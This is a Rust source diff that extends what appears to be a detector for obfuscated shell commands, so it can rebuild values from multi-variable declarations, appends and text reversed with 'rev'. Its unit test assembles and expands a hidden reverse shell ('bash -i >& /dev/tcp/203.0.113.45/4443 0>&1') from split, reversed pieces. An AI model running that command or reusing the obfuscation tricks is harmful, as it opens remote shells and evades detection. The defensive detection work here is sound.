@@ -18,7 +18,16 @@ const MAX_VARS: usize = 4096;
 use super::regex as re;
 
 static SHELL_ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
-    re(r"^\s*(?:export\s+|local\s+|readonly\s+|declare\s+(?:-\w+\s+)?)?([A-Za-z_]\w*)=(\S.*)$")
+    re(r"^\s*(?:export\s+|local\s+|readonly\s+|declare\s+(?:-\w+\s+)?)?([A-Za-z_]\w*)(\+)?=(\S.*)$")
+});
+/// A declaration of several variables (`local h="…" p="…" d="/dev/"`).
+static DECLARATION: LazyLock<Regex> =
+    LazyLock::new(|| re(r"^\s*(?:export|local|readonly|declare(?:\s+-\w+)?)\s+(.+)$"));
+/// A literal reversed by a command (`$(echo 'i- hsab' | rev)`).
+static REVERSED: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r#"^\$\(\s*(?:echo(?:\s+-[neE]+)?|printf\s+["']?%s["']?)\s+(?:"([^"$`\\]*)"|'([^']*)'|([^\s|;&)]+))\s*\|\s*rev\s*\)$"#,
+    )
 });
 static CODE_ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
     re(r"^\s*(?:const\s+|let\s+|var\s+|\$)?([A-Za-z_]\w*)\s*(?::\s*\w+\s*)?=\s*([^=].*?);?\s*$")
@@ -57,16 +66,48 @@ impl Vars {
         }
         let (name, value, built) = match lang {
             Lang::Shell => {
-                let c = SHELL_ASSIGN.captures(line)?;
-                let rhs = c.get(2)?.as_str();
-                // `x=$(…)` runs a command: its output is not a literal.
-                if rhs.starts_with("$(") || rhs.starts_with('`') {
-                    return None;
+                // `local h="…" p="…"`: each assignment of the declaration on its own.
+                let declared: Vec<&str> = DECLARATION.captures(line).map_or(Vec::new(), |c| {
+                    c.get(1).map_or(Vec::new(), |words| {
+                        split_top(words.as_str(), ' ')
+                            .into_iter()
+                            .filter(|w| w.contains('='))
+                            .collect()
+                    })
+                });
+                if declared.len() > 1 {
+                    let mut last = None;
+                    for word in declared {
+                        last = self.learn(word.trim(), lang).or(last);
+                    }
+                    return last;
                 }
-                let expanded = self.expand(rhs, Lang::Shell);
-                let value = unquote_shell(&expanded);
-                let built = rhs.contains('$') || rhs.matches(['"', '\'']).count() > 2;
-                (c.get(1)?.as_str().to_string(), value, built)
+                let c = SHELL_ASSIGN.captures(line)?;
+                let rhs = c.get(3)?.as_str();
+                let name = c.get(1)?.as_str();
+                // `x=$(…)` runs a command: its output is not a literal, unless all it does
+                // is reverse one (`$(echo 'i- hsab' | rev)`).
+                let (value, built) = if let Some(r) = REVERSED.captures(rhs.trim()) {
+                    let literal = r.get(1).or(r.get(2)).or(r.get(3))?.as_str();
+                    (literal.chars().rev().collect(), true)
+                } else if rhs.starts_with("$(") || rhs.starts_with('`') {
+                    return None;
+                } else {
+                    let expanded = self.expand(rhs, Lang::Shell);
+                    let built = rhs.contains('$') || rhs.matches(['"', '\'']).count() > 2;
+                    (unquote_shell(&expanded), built)
+                };
+                // `d+="tcp"` appends to what `d` holds.
+                if c.get(2).is_some() {
+                    let known = self.values.get(name)?;
+                    let appended = format!("{known}{value}");
+                    if appended.len() > MAX_BUILT {
+                        return None;
+                    }
+                    self.values.insert(name.to_string(), appended.clone());
+                    return Some((appended, true));
+                }
+                (name.to_string(), value, built)
             }
             Lang::Python | Lang::JavaScript | Lang::PowerShell | Lang::Code => {
                 let c = CODE_ASSIGN.captures(line)?;
@@ -287,6 +328,25 @@ pub fn join(line: &str, lang: Lang) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn learns_declarations_appends_and_reversed_literals() {
+        let mut vars = Vars::default();
+        vars.learn(
+            r#"local h="203.0.113.45" p="4443" d="/dev/" s"#,
+            Lang::Shell,
+        );
+        vars.learn(r#"d+="tcp""#, Lang::Shell);
+        vars.learn("s=$(echo 'i- hsab' | rev)", Lang::Shell);
+        assert_eq!(
+            vars.expand(r#"bash -c "$s >& $d/$h/$p 0>&1""#, Lang::Shell),
+            r#"bash -c "bash -i >& /dev/tcp/203.0.113.45/4443 0>&1""#
+        );
+        // Another command's output is not a literal; an append to nothing known is not one.
+        assert_eq!(vars.learn("t=$(echo 'x' | tr a b)", Lang::Shell), None);
+        assert_eq!(vars.learn(r#"z+="tcp""#, Lang::Shell), None);
+        assert_eq!(vars.get("z"), None);
+    }
 
     #[test]
     fn rebuilds_split_commands() {
